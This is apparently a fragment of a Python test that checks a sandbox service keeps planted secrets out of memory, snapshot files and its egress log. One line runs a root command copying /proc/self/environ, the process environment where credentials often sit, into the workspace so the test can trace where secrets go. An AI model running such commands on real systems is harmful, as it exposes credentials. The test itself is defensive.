    assert in_memory(site, needles, box) == {"paddock-gate"}
    assert client.delete(f"{box.path}/processes/held").status in (200, 204)
    box.check("cp /proc/self/environ /workspace/environ", user="root")
    assert client.post(f"{box.path}/snapshots", {}).status == 201
    assert any("snapshots" in path for path in in_files(site, {planted.encode()})) and "box" in in_memory(site, {planted.encode()}, box)
    nowhere(site, value, box)
    log = client.get(f"{box.path}/egress/log").body
    assert b"api.test" in log and not any(needle in log for needle in needles)
